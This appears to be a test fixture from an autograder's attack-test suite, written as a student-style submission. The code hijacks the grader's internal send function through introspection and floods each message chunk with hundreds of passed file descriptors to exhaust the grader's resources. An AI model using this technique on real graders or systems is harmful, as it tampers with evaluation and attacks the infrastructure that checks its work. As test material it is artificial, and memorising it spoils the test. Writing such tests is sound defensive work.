# Sends open files along with its messages, hundreds of them, until the grader has no room for its own.
# points: 3
# reports: -

# Nothing is to be told: the kernel drops what nobody takes. See test_design_attacks for the count.

# %%
import array
import os
import socket

connection = socket.socket(fileno=os.dup(3))
files = [os.open(os.devnull, os.O_RDONLY) for _ in range(200)]
note = None


def send_with_files(data):
    rights = array.array("i", files)
    try:
        sent = connection.sendmsg([data], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
    except OSError:
        # Too many are on their way, or it is refused.
        sent = 0
    while sent < len(data):
        sent += connection.send(data[sent:])


import grader

say = grader.check.__self__
globals_ = type(say).say.__globals__
encode = globals_["send"].__globals__["encode"]
import struct


def send(connection, message):
    data = encode(message)
    data = struct.pack("<I", len(data)) + data
    for start in range(0, len(data), 50):
        send_with_files(data[start : start + 50])


globals_["send"] = send
from grader import check


def double(x):
    return 2 * x


# %%
check("double")
